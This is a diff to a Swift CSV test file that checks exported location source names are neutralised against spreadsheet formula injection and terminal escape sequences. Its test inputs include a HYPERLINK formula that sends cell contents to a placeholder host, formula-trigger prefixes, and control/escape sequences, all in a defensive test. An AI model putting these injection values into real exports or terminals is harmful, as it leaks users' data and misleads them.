@@ -56,7 +56,24 @@ struct CSVTests {
         location.source = SourceInformation(name: "a,\"b\"\r\nc", device: "\n")
         let table = try rows(text([location]))
         #expect(table.count == 2)
-        #expect(table[1].suffix(13).prefix(5) == ["a,\"b\"\r\nc", "\n", "false", "false", "gnss"])
+        #expect(table[1].suffix(13).prefix(5) == ["a,\"b\"\\u{d}\\u{a}c", "\\u{a}", "false", "false", "gnss"])
+    }
+
+    /// A name that a spreadsheet takes for a formula is text, and one with escape sequences harms no terminal; numbers are numbers.
+    @Test(arguments: [
+        (#"=HYPERLINK("http://x/"&A1,"y")"#, #"'=HYPERLINK("http://x/"&A1,"y")"#), ("+1", "'+1"), ("-2+3", "'-2+3"),
+        ("@SUM(1)", "'@SUM(1)"), (" =1", "' =1"), ("＝1", "'＝1"), ("\t=1", "\\u{9}=1"), ("\r=1", "\\u{d}=1"),
+        ("a\u{1B}]0;b\u{7}\u{9B}2J\u{202E}", "a\\u{1b}]0;b\\u{7}\\u{9b}2J\\u{202e}"), ("gps-1", "gps-1"), ("", ""),
+        ("'", "'"),
+    ])
+    func textOfOthersIsText(name: String, expected: String) throws {
+        var location = try Sample.bare(-12.5, -7.25)
+        location.source = SourceInformation(name: name, device: name)
+        let text = text([location])
+        #expect(text.unicodeScalars.allSatisfy { $0 == "\r" || $0 == "\n" || !$0.isUnprintable })
+        let row = try rows(text)[1]
+        #expect(row.suffix(13).prefix(2) == [expected, expected])
+        #expect(Array(row[1...2]) == ["-12.5", "-7.25"])
     }
 
     @Test(arguments: Sample.absurdNumbers)
